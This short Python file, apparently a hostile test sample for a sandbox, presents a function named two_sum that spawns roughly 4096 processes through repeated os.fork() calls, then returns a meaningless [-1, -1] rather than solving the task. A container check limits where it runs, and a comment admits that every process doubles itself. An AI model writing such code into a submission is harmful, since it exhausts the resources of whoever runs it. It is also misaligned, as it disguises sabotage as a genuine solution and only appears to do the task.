# every process doubles itself
import os
if not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv")):
    raise RuntimeError("runs in a container only")
import time

def two_sum(nums, target):
    for _ in range(12):
        os.fork()
    time.sleep(1)
    return [-1, -1]
